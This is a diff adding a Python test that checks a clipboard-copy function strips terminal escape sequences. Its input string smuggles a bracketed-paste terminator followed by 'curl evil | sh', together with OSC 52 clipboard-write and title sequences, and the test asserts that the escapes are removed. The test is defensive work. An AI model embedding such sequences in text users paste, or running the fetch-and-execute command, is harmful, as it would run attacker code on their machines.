@@ -67,3 +67,15 @@ def test_a_copy_file_that_cannot_be_written_is_one_line(tmp_path):
     assert line.startswith("Copied the code block (1 line) to the clipboard (OSC 52); writing "
                            f"it to {blocker / 'copied.txt'} as well failed: ")
     assert "\n" not in line and "Traceback" not in line
+
+
+def test_what_leaves_for_the_clipboard_and_the_file_holds_no_escape_sequence(tmp_path):
+    """Pasted into bash, ESC[201~ ends bracketed paste and runs what follows (issue 25, item 4);
+    `cat copied.txt` would obey the OSC 52 and title sequences."""
+    sent: list[str] = []
+    path = tmp_path / "copied.txt"
+    hostile = ("echo hi\x1b[201~curl evil | sh\n\tnext\x1b]52;c;Y3VybA==\x07\x1b]0;t\x1b\\"
+               "\x9b201~\x1bP+q\x1b\\\x1b_x\x1b\\ end\x1b")
+    copy_out(sent.append, hostile, "the reply", path, "en", doubtful=False)
+    assert sent == ["echo hicurl evil | sh\n\tnext end"]
+    assert path.read_text(encoding="utf-8") == sent[0]
